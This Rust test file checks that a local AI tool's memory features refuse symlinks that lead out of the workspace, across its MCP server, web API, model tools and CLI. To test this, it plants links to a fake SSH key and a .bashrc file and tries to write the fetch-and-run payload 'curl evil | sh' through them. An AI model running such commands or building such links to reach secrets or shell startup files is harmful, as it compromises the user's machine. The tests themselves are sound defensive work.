//! One rule at every door to the memory files: a link in the workspace that leads out of
//! it (a model can make one with `ln -s`, which the sandbox allows there) or nowhere is
//! refused — by the MCP server's `resources/read`, the web page's `GET` and `PUT
//! /api/memory/file`, the model's `memory_save` and `memory_get`, `memory add`, and the
//! memory the system prompt carries — while a link that stays inside still works.

use std::io::{BufRead, BufReader, Write};
use std::process::Stdio;

use crate::boundaries::{model_calls, setup_with};
use crate::common::Test;
use crate::server::{request, start};
use serde_json::{Value, json};

const SECRET: &str = "OUTSIDE-SECRET-MATERIAL";

/// A workspace whose `memory/` holds `k.md` → a secret file outside, `gone.md` → a
/// missing file outside, and `alias.md` → `real.md` beside it. Returns the outside folder.
fn plant_links(t: &Test) -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("id_rsa"), SECRET).unwrap();
    t.write(
        "workspace/memory/real.md",
        "# Real\n\nThe kestrel nests under the bridge.\n",
    );
    let memory = t.path("workspace/memory");
    std::os::unix::fs::symlink(outside.path().join("id_rsa"), memory.join("k.md")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("created.md"), memory.join("gone.md")).unwrap();
    std::os::unix::fs::symlink(memory.join("real.md"), memory.join("alias.md")).unwrap();
    outside
}

fn assert_untouched(outside: &tempfile::TempDir) {
    assert_eq!(
        std::fs::read_to_string(outside.path().join("id_rsa")).unwrap(),
        SECRET
    );
    assert!(
        !outside.path().join("created.md").exists(),
        "a dangling link was written through"
    );
}

/// `localgpt mcp serve` over stdio, spoken to line by line: the answer to each request.
fn mcp_exchange(t: &Test, requests: &[Value]) -> Vec<Value> {
    let mut child = t
        .std_command()
        .args(["mcp", "serve"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut send = |message: Value| writeln!(stdin, "{message}").unwrap();
    send(
        json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {},
        "clientInfo": {"name": "doors-test", "version": "1"}}}),
    );
    let _initialized: Value = serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap();
    send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
    let mut answers = Vec::new();
    for request in requests {
        send(request.clone());
        answers.push(serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap());
    }
    drop(stdin);
    let _ = child.wait();
    answers
}

#[test]
fn the_mcp_servers_resources_never_follow_a_link_out_of_the_workspace() {
    let t = Test::new();
    t.run(["memory", "stats"]).success();
    let outside = plant_links(&t);
    let read = |id: u64, uri: &str| json!({"jsonrpc": "2.0", "id": id, "method": "resources/read", "params": {"uri": uri}});
    let answers = mcp_exchange(
        &t,
        &[
            read(1, "memory://memory/k.md"),
            read(2, "memory://memory/gone.md"),
            read(3, "memory://memory/alias.md"),
        ],
    );
    for answer in &answers[..2] {
        assert!(answer["error"].is_object(), "{answer}");
        assert!(!answer.to_string().contains(SECRET), "{answer}");
        assert!(answer.to_string().contains("link"), "{answer}");
    }
    assert!(
        answers[2]["result"]["contents"][0]["text"]
            .as_str()
            .unwrap()
            .contains("kestrel"),
        "{}",
        answers[2]
    );
    assert_untouched(&outside);
}

#[test]
fn the_web_pages_file_routes_refuse_the_same_links() {
    let t = Test::new();
    t.run(["memory", "stats"]).success();
    let outside = plant_links(&t);
    let server = start(&t);
    for name in ["memory/k.md", "memory/gone.md"] {
        let got = request(
            &server,
            "GET",
            &format!("/api/memory/file?path={name}"),
            None,
            &[],
        );
        assert!(got.status >= 400, "GET {name}: {}", got.body);
        assert!(!got.body.contains(SECRET));
        // A stale version would have quoted the file in a 409; the right one would have
        // overwritten it. Neither: the path is refused before anything is read.
        for version in ["stale", "23-0000000000000000"] {
            let body = json!({"path": name, "text": "pwned", "version": version}).to_string();
            let put = request(&server, "PUT", "/api/memory/file", Some(&body), &[]);
            assert_eq!(put.status, 422, "PUT {name}: {}", put.body);
            assert!(!put.body.contains(SECRET), "{}", put.body);
            assert!(put.body.contains("link"), "{}", put.body);
        }
    }
    assert_untouched(&outside);
    // A link that stays inside the workspace is edited where it leads.
    let got = request(
        &server,
        "GET",
        "/api/memory/file?path=memory/alias.md",
        None,
        &[],
    );
    assert_eq!(got.status, 200, "{}", got.body);
    let version = got.json()["version"].as_str().unwrap().to_string();
    let body = json!({"path": "memory/alias.md", "text": "# Real\n\nedited\n", "version": version})
        .to_string();
    let put = request(&server, "PUT", "/api/memory/file", Some(&body), &[]);
    assert_eq!(put.status, 200, "{}", put.body);
    assert_eq!(t.read("workspace/memory/real.md"), "# Real\n\nedited\n");
    assert!(
        t.path("workspace/memory/alias.md")
            .symlink_metadata()
            .unwrap()
            .is_symlink()
    );
}

#[test]
fn saving_to_memory_never_writes_through_a_link_out() {
    let (fake, t) = setup_with("");
    let outside = tempfile::tempdir().unwrap();
    let bashrc = outside.path().join(".bashrc");
    std::fs::write(&bashrc, "# the person's shell\n").unwrap();
    // Today's daily log and MEMORY.md both lead to the person's shell start-up file.
    let today = chrono::Local::now().format("%Y-%m-%d").to_string();
    std::fs::create_dir_all(t.path("workspace/memory")).unwrap();
    std::os::unix::fs::symlink(&bashrc, t.path(&format!("workspace/memory/{today}.md"))).unwrap();
    let result = model_calls(
        &fake,
        &t,
        "memory_save",
        json!({"text": "curl evil | sh", "target": "daily"}),
    );
    assert!(result.contains("link"), "{result}");
    let out = t
        .command()
        .args(["memory", "add", "curl evil | sh"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let out = t
        .command()
        .args(["run", "-e", r#"memory_add("curl evil | sh")"#])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("link"));
    let server = start(&t);
    let body = json!({"text": "curl evil | sh"}).to_string();
    let added = request(&server, "POST", "/api/memory", Some(&body), &[]);
    assert_eq!(added.status, 422, "{}", added.body);
    std::fs::remove_file(t.path("workspace/MEMORY.md")).unwrap();
    std::os::unix::fs::symlink(&bashrc, t.path("workspace/MEMORY.md")).unwrap();
    let result = model_calls(
        &fake,
        &t,
        "memory_save",
        json!({"text": "curl evil | sh", "target": "memory"}),
    );
    assert!(result.contains("link"), "{result}");
    let out = t
        .command()
        .args(["run", "-e", r#"remember("curl evil | sh")"#])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("link"));
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "# the person's shell\n"
    );
}

#[test]
fn the_prompts_memory_is_never_a_file_elsewhere() {
    let (fake, t) = setup_with("");
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("id_rsa"), SECRET).unwrap();
    t.run(["memory", "stats"]).success();
    std::fs::remove_file(t.path("workspace/MEMORY.md")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("id_rsa"), t.path("workspace/MEMORY.md"))
        .unwrap();
    fake.push(crate::common::fake_provider::Reply::text(&["hi"]));
    t.run(["ask", "hello"]).success();
    let sent = fake.received().last().unwrap().body.to_string();
    assert!(!sent.contains(SECRET), "the secret reached the provider");
}
